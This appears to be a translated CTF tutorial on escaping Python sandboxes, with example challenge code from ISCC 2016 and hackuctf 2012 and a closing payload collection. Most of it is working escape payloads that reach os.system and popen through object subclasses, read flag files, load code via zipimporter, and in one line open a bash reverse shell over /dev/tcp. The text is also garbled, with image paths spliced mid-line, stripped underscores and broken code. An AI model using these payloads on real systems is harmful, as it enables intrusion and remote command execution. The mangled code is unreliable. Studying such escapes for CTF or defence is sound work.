In conclusion:1. Get the object through the properties / methods such as class, mro, subclasses, bases, etc
2. According to "globals", find the libraries that can be directly used, such as "builtins" or "eval", or find the builtins "function" or "method class / type
3. Run eval directly after call

File read and write

There are two built-in functions file in python2.x, open can be used for file reading (file is not used in python3.x)
The types.FileType(rw), platform.popen(rw), linecache.getlines ® libraries can write files, which is more harmful than reading.
Because, if you can write a file, you can first write a file (, and then import it.         #Note: it is better to choose a common standard library name for xx naming, because the filtered library name may adopt the way of white list. But it cannot be the same as the library in sys.modules. Otherwise, it cannot be used normally, and python will directly add from sys.modules
    import os
>>> import math

According to the above content, several payload structures can be found to bypass:'filename').read() 'context' ().class.base.subclasses() 'context'


Two symbols [,] may also be filtered in the sandbox. In this case, we need to use pop and getitem instead of the impactof the lack of [,] two symbols.

>>> ''.__class__.__mro__.__getitem__(2).__subclasses__().pop(59).__init__.func_globals.get('linecache').os.popen('whoami').read()

#New feature f-string can be used later in python 3.6
>>> f'{__import__("os").system("whoami")}'

3. Summary / ideas

Generally, escape uses these libraries to try:


If it's all by ban, you can try to prepare the two magic methods mentioned in the content to bypass the string limit, or use built-in functions to bypass.

4. examples

Just read the content always feel confused, only after a certain amount of practice to read this article again can bring more gains.
I will put the following questions directly in my resources. Welcome to download the exercises.

1. ISCC 2016 Pwn300 pycalc#!/usr/bin/env python2
# -*- coding:utf-8 -*-

def banner():
    print "==="
    print "   Simple calculator implemented by python   "
    print "==="

def getexp():
    return raw_input(">>> ")

def _hook_import_(name, *args, **kwargs):
    module_blacklist = [****]
    rbid in module_blacklist:
        if name == forbid:        # don't let user import these modules
            raise RuntimeError('No you can\' import {0}!!!'.format(forbid))
    # normal modules can be imported
    return __import__(name, *args, **kwargs)

def sandbox_filter(command):blacklist = ['exec', 'sh', '__getitem__', '__setitem__',
                 '=', 'open', 'read', 'sys', ';', 'os']
    for forbid in blacklist:
        if forbid in command:
            return 0
    return 1

def sandbox_exec(command):      # sandbox user input
    result = 0
    __sandboxed_builtins__ = dict(__builtins__.__dict__)
    __sandboxed_builtins__['__import__'] = _hook_import_    # hook importdel __sandboxed_builtins__['open']
    _global = {
        '__builtins__': __sandboxed_builtins__
    if sandbox_filter(command) == 0:
        print 'Malicious user input detected!!!'command = 'result = ' + command
        exec command in _global     # do calculate in a sandboxed environment
    except Exception, e:
        print e
        return 0
    result = _global['result']  # extract the result
    return result

while 1:
    command = getexp()
    print sandbox_exec(command)

The exec command in the code is very safe. Exec runs in a custom global namespace, which makes it impossible for manypayload s to execute in the restricted execution mode environment. But there are other special methods that can be implemented.

>>> ''.__class__.__mro__[-1].__subclasses__()[71]._Printer__setup.__globals__
restricted attribute
>>> getattr(getattr(__import__('types'), 'FileType')('key'), 're''ad')()
file() constructor not accessible in restricted mode
>>> getattr(__import__('types').__builtins__['__tropmi__'[::-1]]('so'[::-1]), 'mets' 'ys'[::-1])('whoami')

2.__ future _

from __future__ import print_function
banned =[****]
targets = __builtins__.__dict__.keys()
for x in targets:
    del __builtins__.__dict__[x]
while 1:
    print(">>>", end=' ')
    data = raw_input()
    for no in banned:
        if no.lower() in data.lower():
            print("No bueno")
    else: # this means nobreak
        exec data

From the source code, we can know that there is no ban reload function, so the idea can be reload built-in function. But reload(builtins) is not correct after the attempt. And because the topic only contains the functions in builtins, you can try to complete it through inheritance (see the a - > OS example above, using < class' site. \

Obviously, the above os is disabled, so you need to use string deformation (see above). Here we use the commonly used base64 processing
There are other payload s to analyze:

3.hackuctf 2012

def make_secure():
    UNSAFE = [****]
    for func in UNSAFE:
        del __builtins__.__dict__[func]
from re import findall

#Remove dangerous builtins
print'Go Ahead, Expoit me >;D'
        print ">>>",# Read user input until the firstwhitespace character
        inp = findall('\S+',raw_input())[0]
        a = None 25.
             # Set a to the result from executingthe user input
        exec 'a=' + inp
            print '>>>', a
    except Exception, e:
             print 'Exception:', e

After running, the effect is almost the same as the usual python command-line interface, but there are only a few "sensitive functions" missing. No ban os? Just import os.

Go Ahead, Expoit me >;D
>>> import os
Exception: invalid syntax (<string>, line 1)
>>> import osException: invalid syntax (<string>, line 1)

It's naive.. Sure, it's not a sign in question.
Here we need to combine the above inheritance and file two parts to bypass, which is a relatively simple problem.

>>> ().__class__.__bases__[0]
>>> <type 'object'>
>>> ().__class__.__bases__[0].__subclasses__()
>>> [<type 'type'>, <type 'weakref'>, <type 'weakcallableproxy'>, <type 'weakproxy'>, <type'int'>, <type 'basestring'>, <type 'bytearray'>, <type 'list'>, <type 'NoneType'>, <type 'NotImplementedType'>, <type 'traceback'>, <type 'super'>, <type 'xrange'>, <type 'dict'>, <type 'set'>, <type 'slice'>, <type 'staticmethod'>, <type 'complex'>, <type 'float'>, <type 'buffer'>, <type 'long'>, <type 'frozenset'>, <type 'property'>, <type 'memoryview'>, <type 'tuple'>, <type 'enumerate'>, <type 'reversed'>, <type 'code'>, <type 'frame'>, <type 'builtin_function_or_method'>, <type 'instancemethod'>, <type 'function'>, <type 'classobj'>, <type 'dictproxy'>, <type 'generator'>, <type 'getset_descriptor'>, <type 'wrapper_descriptor'>, <type 'instance'>, <type 'ellipsis'>, <type 'member_descriptor'>, <type 'file'>, <type 'PyCapsule'>, <type 'cell'>, <type 'callable-iterator'>, <type 'iterator'>, <type 'sys.long_info'>, <type 'sys.float_info'>, <type 'EncodingMap'>, <type 'fieldnameiterator'>, <type 'formatteriterator'>, <type 'sys.version_info'>, <type 'sys.flags'>, <type 'exceptions.BaseException'>, <type 'module'>, <type 'imp.NullImporter'>, <type 'zipimport.zipimporter'>, <type 'posix.stat_result'>, <type 'posix.statvfs_result'>, <class 'warnings.WarningMessage'>, <class 'warnings.catch_warnings'>, <class '_weakrefset._IterationGuard'>, <class '_weakrefset.WeakSet'>, <class '_abcoll.Hashable'>, <type 'classmethod'>, <class '_abcoll.Iterable'>, <class '_abcoll.Sized'>, <class '_abcoll.Container'>, <class '_abcoll.Callable'>, <type 'dict_keys'>, <type 'dict_items'>, <type 'dict_values'>, <class 'site._Printer'>, <class 'site._Helper'>, <type '_sre.SRE_Pattern'>, <type '_sre.SRE_Match'>, <type '_sre.SRE_Scanner'>, <class 'site.Quitter'>, <class 'codecs.IncrementalEncoder'>, <class 'codecs.IncrementalDecoder'>]
>>> ().__class__.__bases__[0].__subclasses__()[40]
>>> <type 'file'>
>>> ().__class__.__bases__[0].__subclasses__()[40]("./flag").read()
Exception: [Errno 2] No such file or directory: './flag'   #Because I don't seta flag file locally, I will report an error. Actually, I have finished the read operation.


 from __future__ import print_function
 print("Welcometo my Python sandbox! Enter commands below!")
 banned= [****]
 targets= __builtins__.__dict__.keys()
 for x in targets:
    del __builtins__.__dict__[x]
 while 1:
    print(">>>", end='')
    data = raw_input()
     for no in banned:
         if no.lower() in data.lower():
            print("No bueno")
          # this means nobreak
        exec data

Try to use the catch Chu warnings class (index 59), and use string concatenation to implement (or through other ways) to construct.

Welcometo my Python sandbox! Enter commands below!
'1.ISCC 2016 Pwn300'  '3.hackuctf'


import sys, cmd, os
intro= """
    -No import
    -No ...
    -No flag
    exec(command, globals())
    prompt    = '>>> '
    filtered   ='***'.split('|')
    def do_EOF(self, line):
    def emptyline(self):
        return cmd.Cmd.emptyline(self)
    def default(self, line):
    def postcmd(self, stop, line):
        if any(f in line for f in self.filtered):
            print("You are a big hacker!!!")print("Go away")
           except NameError:
                print("NameError: name'%s' is not defined" % line)
           except Exception:
                print("Error: %s" %line)
        return cmd.Cmd.postcmd(self, stop,line)if__name__ == "__main__":
    except KeyboardInterrupt:
        print("\rSee you next time!")

This problem is not only ban function, but also ban symbol.

    -No import
    -No ...
    -No flag
>>> ().__class__.__bases__[0].__subclasses__()
You are a big hacker!!!
Go away>>> ().__class__.__bases__[0].__subclasses__()[59].__init__.func_globals['linecache'].__dict__['o'+'s'].__dict__['sy'+'stem']('ls')
You are a big hacker!!!
Go away
>>> print(().__class__.__bases__[0].__subclasses__()[59].__init__.func_globals['linecache'].__dict__['o'+'s'].__dict__['sy'+'stem']('ls'))
You are a big hacker!!!
Go away
>>> print()
>>> print(getattr(os,"system")("ls"))
'1.ISCC 2016 Pwn300' '3.hackuctf'

payload collection

You can read these collected payload s. Although the topic or environment is not necessarily these methods, they all have the same understanding of how to construct, and their ideas are naturally clear.

print [].class.base.subclasses() #see file

//Equivalent to:()class.bases[0].subclasses()40).read() #There are many other ways to handle strings


print [].class.base.subclasses()[59].init.func_globals['linecache'].dict.values()[12].dict.values()144 linecache Search in os Module executes system commands

getattr(import('types').builtins'tropmi'[::-1], 'mets' 'ys'[::-1])('whoami')




{}.class.bases[0].subclasses()[71].getattribute({}.class.bases[0].subclasses()[71].init.func,'func'+'_global' +'s')['o'+'s'].popen('bash -c "bash -i >& /dev/tcp/xxx/xxx 0<&1 2>&1"') #Search for os module from module to execute system command

print [].class.base.subclasses()

print [].class.base.subclasses()

print [].class.base.subclasses()

print [].class.base.subclasses() #Read important information

code = "PK\x03\x04\x14\x03\x00\x00\x08\x00\xec\xb9\x9cL\x15\xa5\x99\x18;\x00\x00\x00>\x00\x00\x00\n\x00\x00\x00Err0rzz.pySV\xd0\xd5\xd2UH\xceO\xc9\xccK\xb7R(-I\xd3\xb5\x00\x89pqe\xe6\x16\xe4\x17\x95(\xe4\x17sq\x15\x14e\xe6\x81Xz\xc5\x95\xc5%\xa9\xb9\x1a\xea9\xc5\n\xba\x899\xea\x9a\\x00PK\x01\x02?\x03\x14\x03\x00\x00\x08\x00\xec\xb9\x9cL\x15\xa5\x99\x18;\x00\x00\x00>\x00\x00\x00\n\x00$\x00\x00\x00\x00\x00\x00\x00 \x80\xa4\x81\x00\x00\x00\\n\x00 \x00\x00\x00\x00\x00\x01\x00\x18\x00\x00\xd6\x06\xb2p\xdf\xd3\x01\x80\x00\xads\xf9\xa7\xd4\x01\x80\x00\xads\xf9\xa7\xd4\x01PK\x05\x06\x00\x00\x00\x00\x01\x00\x01\x00\\x00\x00\x00c\x00\x00\x00\x00\x00"
print [].class.base.subclasses()40.write(code)
print [].class.base.subclasses()[].class.base.subclasses()55.load_module('Err0rzz') #Construct zip module and use zipimorter

x = [x for x in [].class.base.subclasses() if == 'ca'+'tch_warnings'][0].init


x.getattribute("func_global"+"s")['linecache'].dict['o'+'s'].dict['sy'+'stem']('l'+'s /home/ctf')


5. For reference / source code download

Exercises source code download

Published 9 original articles,won 0 praise and 372 visitors
Private letter follow

Tags: Python Attribute JSON socket

